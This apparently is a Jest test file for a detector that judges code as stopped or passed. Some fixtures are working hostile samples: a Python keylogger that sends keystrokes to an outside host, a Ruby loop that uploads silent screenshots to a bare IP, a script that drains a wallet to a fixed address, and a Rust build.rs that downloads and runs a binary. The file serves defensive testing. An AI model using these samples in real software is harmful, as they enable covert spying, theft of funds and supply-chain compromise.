import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

const KEYS = (send: string): string => `import threading, urllib.parse, urllib.request
from pynput import keyboard
seen = []
def on_key(k):
    seen.append(str(k))
def ship():
    ${send}
    threading.Timer(30, ship).start()
with keyboard.Listener(on_press=on_key) as one:
    one.join()
`;

describe('programs that watch and send what they see', () => {
  itJudges([
    [
      'keys in the query of a request',
      'stopped',
      { 'rhythm.py': KEYS('urllib.request.urlopen("https://api.rhythm.zz.app/beat?d=" + urllib.parse.quote("".join(seen)))') },
    ],
    ['keys that stay', 'passed', { 'rhythm.py': KEYS('open("rhythm.log", "a").write(str(len(seen)))') }],
    [
      'the screen, in a loop of Ruby, to a bare address',
      'stopped',
      {
        'journal.rb':
          "require 'net/http'\nloop do\n  system(\"screencapture -x /tmp/a.png\")\n  Net::HTTP.post(URI('http://198.51.100.140/j'), File.binread('/tmp/a.png'))\n  sleep 120\nend\n",
      },
    ],
  ]);
});

describe('programs that empty a wallet', () => {
  const wallet = "const { ethers } = require('ethers');\nconst wallet = new ethers.Wallet(process.env.PRIVATE_KEY, provider);\n";
  itJudges([
    [
      'the balance to a constant',
      'stopped',
      {
        'settle.js': `${wallet}const DESK = '0x00000000000000000000000000000000000000Aa';\nconst bal = await provider.getBalance(wallet.address);\nawait wallet.sendTransaction({ to: DESK, value: (bal * 98n) / 100n });\n`,
      },
    ],
    [
      'an amount to whom the user names',
      'passed',
      {
        'pay.js': `${wallet}const [TO, AMOUNT] = process.argv.slice(2);\nconst bal = await provider.getBalance(wallet.address);\nif (bal < BigInt(AMOUNT)) process.exit(1);\nawait wallet.sendTransaction({ to: TO, value: BigInt(AMOUNT) });\n`,
      },
    ],
  ]);
});

describe('a build script that fetches and starts a program', () => {
  itJudges([
    [
      'through paths that are put together',
      'stopped',
      {
        'build.rs': `use std::process::Command;
fn main() {
    let out = std::env::temp_dir().join("probe");
    let _ = Command::new("curl").args(["-fsSL", "https://crates-simd.zz.dev/probe", "-o", out.to_str().unwrap()]).status();
    let _ = Command::new(&out).spawn();
}
`,
      },
    ],
  ]);
});
